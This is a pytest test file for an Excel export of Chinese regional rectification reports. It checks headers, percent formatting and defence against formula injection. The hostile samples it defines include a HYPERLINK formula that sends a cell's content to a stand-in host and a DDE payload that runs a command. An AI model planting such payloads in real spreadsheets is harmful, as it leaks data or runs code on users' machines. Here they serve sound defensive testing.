"""The Excel export: Chinese headers, rates as percent-formatted numbers, and no cell a spreadsheet could execute."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from brief_data import MONTH, build_scenario
from builders import shared_lens
from openpyxl import load_workbook

from rectlens.cells import FORMULA_TRIGGERS, needs_quote
from rectlens.export import briefing, excel

# Texts that Excel, LibreOffice or Google Sheets would run or reinterpret if they were not stored as text.
HOSTILE_UNIT = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
HOSTILE_REASONS = ("=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def brief_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with shared_lens(tmp_path_factory, "excel") as lens:
        build_scenario(lens)
        yield lens.path


@pytest.fixture(scope="module")
def month_brief(brief_db: Path) -> briefing.Briefing:
    return briefing.load(brief_db, MONTH)


def hostile(month_brief: briefing.Briefing) -> briefing.Briefing:
    """The same briefing with a unit renamed to a formula and every warning reason replaced by one."""
    report = month_brief.report
    metrics = report.metrics.replace({"region": {"江城市": HOSTILE_UNIT}})
    flags = report.flags.replace({"region": {"江城市": HOSTILE_UNIT}})
    reasons = [HOSTILE_REASONS[i % len(HOSTILE_REASONS)] for i in range(len(flags))]
    flags = flags.assign(reason=reasons)
    return dataclasses.replace(month_brief, report=dataclasses.replace(report, metrics=metrics, flags=flags))


def open_book(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def rows_of(sheet) -> list[list[object]]:  # type: ignore[no-untyped-def]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_sheets_and_chinese_headers(month_brief: briefing.Briefing) -> None:
    book = open_book(excel.workbook(month_brief))
    assert book.sheetnames == ["地区", "地区×整治项目", "预警", "说明"]
    header = [cell.value for cell in book["地区"][1]]
    assert header[:3] == ["片区", "地区", "报送月份"]
    assert {"问题总数", "已完成数", "报告完成率", "抽查数", "抽查通过率", "核实完成率", "序时进度", "逾期未完成数"} <= set(header)
    assert [cell.value for cell in book["地区×整治项目"][1]][:4] == ["片区", "地区", "整治项目", "报送月份"]
    assert [cell.value for cell in book["预警"][1]] == ["等级", "预警代码", "预警", "地区", "整治项目", "报送月份", "原因"]
    assert "数据来源：整改透视" in book["说明"]["A2"].value


def test_rates_are_numbers_formatted_as_percent(month_brief: briefing.Briefing) -> None:
    sheet = open_book(excel.workbook(month_brief))["地区"]
    header = [cell.value for cell in sheet[1]]
    units = month_brief.report.level("region").set_index("region")
    for row in sheet.iter_rows(min_row=2):
        record = units.loc[row[header.index("地区")].value]
        reported = row[header.index("报告完成率")]
        assert reported.data_type == "n" and reported.number_format == "0.0%"
        assert reported.value == pytest.approx(record["reported_rate"])
        verified = row[header.index("核实完成率")]
        if pd.isna(record["verified_rate"]):
            assert verified.value is None  # no checks: empty, not 0%
        else:
            assert verified.value == pytest.approx(record["verified_rate"])
        total = row[header.index("问题总数")]
        assert total.data_type == "n" and total.value == record["total"]
    assert row[header.index("报送月份")].value == "2026年10月"


def test_warnings_sheet_matches_the_month_report(month_brief: briefing.Briefing) -> None:
    rows = rows_of(open_book(excel.workbook(month_brief))["预警"])[1:]
    flags = month_brief.report.flags
    assert [row[6] for row in rows] == list(flags["reason"])
    assert [row[1] for row in rows] == list(flags["code"])
    assert {row[0] for row in rows} <= {"高", "中", "低"}


def test_a_unit_name_or_reason_beginning_with_a_formula_character_stays_text(month_brief: briefing.Briefing) -> None:
    renamed = hostile(month_brief)
    cells = renamed.report.level("region,project")
    expected = 1 + int((cells["region"] == HOSTILE_UNIT).sum()) + int((renamed.report.flags["region"] == HOSTILE_UNIT).sum())
    data = excel.workbook(renamed)
    book = open_book(data)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # a carriage return is stored as the OOXML escape _x000D_, which openpyxl does not decode
                value = cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value
                if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, value)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)  # stays text when edited, too
                    found.append(value)
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert found.count(HOSTILE_UNIT) == expected >= 3  # 地区, 地区×整治项目 and 预警 sheets
    assert set(HOSTILE_REASONS) <= set(found)
    # the values round-trip exactly, and no sheet XML holds a formula element at all
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_needs_quote() -> None:
    assert all(needs_quote(text) for text in HOSTILE_REASONS)
    assert not any(needs_quote(text) for text in ("江城市", "95%", "已完成 6 项", "（整体）", ""))


def test_export_time_is_written(month_brief: briefing.Briefing) -> None:
    about = rows_of(open_book(excel.workbook(month_brief))["说明"])
    stamp = next(row[0] for row in about if str(row[0]).startswith("导出时间："))
    assert dt.datetime.strptime(stamp.removeprefix("导出时间："), "%Y-%m-%d %H:%M")
